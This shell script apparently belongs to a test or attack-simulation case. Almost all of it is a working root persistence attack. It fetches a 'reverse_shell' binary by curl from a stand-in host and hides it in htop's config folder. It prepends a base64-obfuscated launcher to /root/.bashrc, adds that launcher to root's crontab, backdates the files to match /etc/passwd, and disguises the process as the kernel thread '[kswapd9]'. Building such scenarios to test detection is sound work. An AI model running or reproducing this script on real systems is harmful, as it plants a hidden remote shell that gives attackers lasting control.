#!/bin/sh
. /opt/case/case.sh

mkdir -p /root/.config/htop && cd /root/.config/htop
touch /root/.bashrc
curl -fsSL http://203.0.113.10/programs/reverse_shell -o defunct && chmod 700 defunct
head -c 16 /dev/urandom | base64 >defunct.dat
line="{ echo $(printf 'pgrep -f "[k]swapd9" >/dev/null || exec -a "[kswapd9]" /root/.config/htop/defunct' | base64 -w 0)|base64 -d|bash;} 2>/dev/null #1b5b324a50524e47"
printf '%s\n' "$line" | cat - /root/.bashrc >/root/.b && mv /root/.b /root/.bashrc
mkdir -p /var/spool/cron/crontabs && printf '0 * * * * %s\n' "$line" >>/var/spool/cron/crontabs/root
touch -r /etc/passwd /root/.bashrc defunct
bash -c "exec -a '[kswapd9]' ./defunct" >/dev/null 2>&1 &
wait_for /tmp/reached
took_place
